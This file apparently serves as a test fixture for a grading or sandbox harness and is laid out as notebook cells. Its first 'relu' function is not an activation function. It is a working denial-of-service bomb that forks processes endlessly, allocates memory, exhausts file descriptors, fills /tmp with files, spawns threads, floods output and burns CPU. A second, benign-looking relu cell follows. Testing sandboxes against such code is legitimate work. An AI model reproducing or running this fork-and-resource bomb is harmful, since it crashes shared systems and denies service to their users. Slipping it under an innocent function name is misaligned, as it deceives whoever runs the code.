"""Exhausts processor, memory, processes, threads, descriptors, disk and output together."""
# notebook: activations
# scores: test_relu=0
# race: yes

# %% relu
import os
import threading
import time


def relu(z):
    def forever(action):
        kept = []
        while True:
            try:
                kept.append(action())
            except (OSError, RuntimeError, MemoryError):
                time.sleep(0.001)
    actions = [
        lambda: os.fork(),
        lambda: bytearray(1 << 20),
        lambda: os.open("/dev/null", os.O_RDONLY),
        lambda: open(f"/tmp/{time.monotonic_ns()}", "wb").write(bytes(1 << 20)),
        lambda: threading.Thread(target=time.sleep, args=(60,), daemon=True).start(),
        lambda: os.write(1, bytes(1 << 16)),
        lambda: sum(range(1 << 16)),
    ]
    for action in actions:
        threading.Thread(target=forever, args=(action,), daemon=True).start()
    time.sleep(600)


# %% twin

# %% relu
import os
import threading

threading.Thread(target=os.getpid).start()
kept = bytearray(1 << 20)
open('file', 'wb').write(kept)


def relu(z):
    return torch.where(z < 0, torch.zeros_like(z), z)
